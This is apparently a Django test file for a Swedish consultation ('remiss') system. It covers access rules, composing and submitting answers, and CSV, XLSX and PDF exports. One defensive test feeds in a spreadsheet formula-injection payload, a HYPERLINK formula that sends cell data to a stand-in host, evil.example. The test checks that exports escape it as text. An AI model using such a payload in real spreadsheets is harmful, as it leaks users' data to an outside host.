import csv
import io
import os
import unittest

from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from kunskapsnav.consultation import answers, compilation
from kunskapsnav.consultation.models import AnswerStatus

from .remiss import LiveRemissTestCase


def require_pdf():
    """WeasyPrint needs the Pango libraries of the system. Without them the PDF tests are
    skipped, unless KUNSKAPSNAV_REQUIRE_PDF=1 (as in .ci/run, which installs them)."""
    try:
        import weasyprint  # noqa: F401
    except OSError as error:
        if os.environ.get("KUNSKAPSNAV_REQUIRE_PDF") == "1":
            raise
        raise unittest.SkipTest(f"PDF export needs Pango: {error}") from error


class RemissPageTests(LiveRemissTestCase):
    def test_the_round_lists_its_parties_and_only_the_owner_sees_who_answered(self):
        self.client.force_login(self.uppsala_coordinator)
        page = self.client.get(self.round.get_absolute_url()).content.decode()
        self.assertIn("Region Örebro län", page)
        self.assertIn("Svara gärna kort.", page)
        self.assertNotIn("Har inte svarat", page)
        self.assertIn(self.uppsala_inv.get_absolute_url(), page)
        self.assertNotIn(self.orebro_inv.get_absolute_url(), page)
        self.client.force_login(self.npo_editor)
        self.assertIn("Har inte svarat", self.client.get(self.round.get_absolute_url()).content.decode())

    def test_another_region_cannot_open_the_regions_workspace(self):
        self.client.force_login(self.uppsala_coordinator)
        self.assertEqual(self.client.get(self.orebro_inv.get_absolute_url()).status_code, 403)
        self.client.force_login(self.npo_editor)  # nothing submitted yet
        self.assertEqual(self.client.get(self.orebro_inv.get_absolute_url()).status_code, 403)
        self.client.force_login(self.member)
        page = self.client.get(self.orebro_inv.get_absolute_url()).content.decode()
        self.assertIn("Fyra veckor är för länge", page)

    def test_a_bad_comment_keeps_what_was_typed_and_says_what_is_wrong(self):
        self.client.force_login(self.chair)
        response = self.client.post(reverse("consultation:comment_add", args=[self.orebro_inv.pk]), {
            "kind": "sakligt", "text": "", "proposed_text": "Min föreslagna text"})
        self.assertEqual(response.status_code, 400)
        page = response.content.decode()
        self.assertIn("Min föreslagna text", page)
        self.assertIn("Det gick inte att spara", page)

    def test_the_coordinator_merges_two_comments_into_one_point_and_submits(self):
        second = answers.comment_add(by=self.member, invitation=self.orebro_inv, recommendation=self.rec,
                                     text="Instämmer.", kind="redaktionellt")
        self.client.force_login(self.orebro_coordinator)
        url = reverse("consultation:answer_compose", args=[self.orebro_inv.pk])
        page = self.client.get(url).content.decode()
        self.assertIn("Fyra veckor är för länge", page)
        rows = {"punkt-TOTAL_FORMS": "2", "punkt-INITIAL_FORMS": "2", "summary": "Region Örebro län tillstyrker.",
                "signed_by": "Hälso- och sjukvårdsdirektör"}
        for index, comment in enumerate([self.chair_comment, second]):
            rows |= {f"punkt-{index}-include": "on", f"punkt-{index}-point": "1", f"punkt-{index}-kind": comment.kind,
                     f"punkt-{index}-recommendation": str(self.rec.pk), f"punkt-{index}-text": comment.text,
                     f"punkt-{index}-proposed_text": comment.proposed_text, f"punkt-{index}-comments": str(comment.pk)}
        self.assertEqual(self.client.post(url, rows).status_code, 302)
        answer = self.orebro_inv.answer
        item = answer.items.get()
        self.assertEqual(item.text, "Fyra veckor är för länge för ekokardiografi.\n\nInstämmer.")
        self.assertEqual(item.kind, "sakligt")
        self.assertEqual(set(item.from_comments.all()), {self.chair_comment, second})
        self.client.post(reverse("consultation:answer_submit", args=[self.orebro_inv.pk]))
        answer.refresh_from_db()
        self.assertEqual(answer.status, AnswerStatus.SUBMITTED)
        # Locked: the composer sends the coordinator back with the reason.
        response = self.client.get(url, follow=True)
        self.assertContains(response, "låst")
        # Withdrawn and the history says so, with who did it.
        self.client.post(reverse("consultation:answer_withdraw", args=[self.orebro_inv.pk]))
        history = self.client.get(self.orebro_inv.get_absolute_url()).context["history"]
        self.assertEqual([c.new for e in history for c in e.changes if c.label == "status"][:2],
                         ["Utkast", "Inskickat"])
        self.assertEqual(history[0].reason, "Återkallat")

    def submit_orebro(self):
        answers.answer_compose(by=self.orebro_coordinator, invitation=self.orebro_inv, summary="Tillstyrks.",
                               signed_by="HSD Örebro", items=[{"text": "Korta till två veckor;\"citat\"",
                                                               "recommendation": self.rec,
                                                               "from_comments": [self.chair_comment]}])
        answers.answer_submit(by=self.orebro_coordinator, invitation=self.orebro_inv)

    def test_the_compilation_is_the_owners_until_published(self):
        self.submit_orebro()
        url = reverse("consultation:compilation", args=[self.round.pk])
        self.assertEqual(self.client.get(url).status_code, 403)
        self.client.force_login(self.uppsala_coordinator)
        self.assertEqual(self.client.get(url).status_code, 403)
        self.assertEqual(self.client.get(url.rstrip("/") + ".csv").status_code, 403)
        self.client.force_login(self.npo_editor)
        page = self.client.get(url).content.decode()
        self.assertIn("HSD Örebro", page)
        self.assertIn("Spara bemötandet", page)
        item = self.orebro_inv.answer.items.get()
        response = self.client.post(reverse("consultation:response_save", args=[item.pk]),
                                    {"outcome": "delvis", "reason": "Tre veckor blir nytt krav."})
        self.assertEqual(response.status_code, 302)
        self.assertEqual(item.response.get_outcome_display(), "Delvis beaktad")

    def test_the_compilation_exports_as_csv_xlsx_and_pdf(self):
        self.submit_orebro()
        compilation.response_save(by=self.npo_editor, item=self.orebro_inv.answer.items.get(), outcome="beaktad",
                                  reason="Ändras till två veckor.")
        self.client.force_login(self.npo_editor)
        base = reverse("consultation:compilation", args=[self.round.pk]).rstrip("/")

        response = self.client.get(base + ".csv")
        self.assertIn("attachment", response["Content-Disposition"])
        table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
        self.assertEqual(table[0][3], "Remissinstans")
        self.assertEqual(table[1][3:5], ["Region Örebro län", "HSD Örebro"])
        self.assertEqual(table[1][7], "Korta till två veckor;\"citat\"")
        self.assertEqual(table[1][9:], ["Beaktad", "Ändras till två veckor."])

        book = load_workbook(io.BytesIO(self.client.get(base + ".xlsx").content))
        sheet = book.worksheets[0]
        self.assertEqual(sheet["D2"].value, "Region Örebro län")
        self.assertEqual(sheet["J2"].value, "Beaktad")
        self.assertEqual(book.worksheets[1]["C2"].value, 1)  # one point on recommendation 1

    def test_text_a_party_writes_reaches_the_csv_and_xlsx_as_text_never_as_a_formula(self):
        hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Läs mer")'
        answers.answer_compose(by=self.orebro_coordinator, invitation=self.orebro_inv, summary="Tillstyrks.",
                               signed_by="+46 19 60 20 00", items=[{"text": hostile, "recommendation": self.rec,
                                                                     "proposed_text": "@SUM(1+1)"}])
        answers.answer_submit(by=self.orebro_coordinator, invitation=self.orebro_inv)
        compilation.response_save(by=self.npo_editor, item=self.orebro_inv.answer.items.get(), outcome="beaktad",
                                  reason="-Inget att ändra.")
        self.client.force_login(self.npo_editor)
        base = reverse("consultation:compilation", args=[self.round.pk]).rstrip("/")

        table = list(csv.reader(io.StringIO(self.client.get(base + ".csv").content.decode("utf-8-sig")), delimiter=";"))
        self.assertEqual(table[1][4], "'+46 19 60 20 00")
        self.assertEqual(table[1][7:9], ["'" + hostile, "'@SUM(1+1)"])
        self.assertEqual(table[1][10], "'-Inget att ändra.")

        sheet = load_workbook(io.BytesIO(self.client.get(base + ".xlsx").content)).worksheets[0]
        cells = [sheet["E2"], sheet["H2"], sheet["I2"], sheet["K2"]]
        self.assertEqual([c.value for c in cells], ["'+46 19 60 20 00", "'" + hostile, "'@SUM(1+1)", "'-Inget att ändra."])
        self.assertEqual({c.data_type for c in cells}, {"s"})
        self.assertEqual(sheet["B2"].value, 1)  # the recommendation's number stays a number

    def test_the_compilation_exports_as_pdf(self):
        require_pdf()
        self.submit_orebro()
        compilation.response_save(by=self.npo_editor, item=self.orebro_inv.answer.items.get(), outcome="beaktad",
                                  reason="Ändras till två veckor.")
        self.client.force_login(self.npo_editor)
        base = reverse("consultation:compilation", args=[self.round.pk]).rstrip("/")
        pdf = PdfReader(io.BytesIO(self.client.get(base + ".pdf").content))
        text = " ".join(page.extract_text() for page in pdf.pages)
        self.assertIn("Region Örebro län", text)
        self.assertIn("Ändras till två veckor.", text)

    def test_the_start_page_lists_remisses_the_region_has_not_answered(self):
        self.client.force_login(self.chair)  # assigned through the LPO
        self.assertContains(self.client.get("/"), self.orebro_inv.get_absolute_url())
        self.client.force_login(self.orebro_coordinator)
        self.assertContains(self.client.get("/"), "Remisser att besvara")
        self.submit_orebro()
        self.assertNotContains(self.client.get("/"), "Remisser att besvara")
        self.client.force_login(self.outsider)
        self.assertNotContains(self.client.get("/"), "Remisser att besvara")
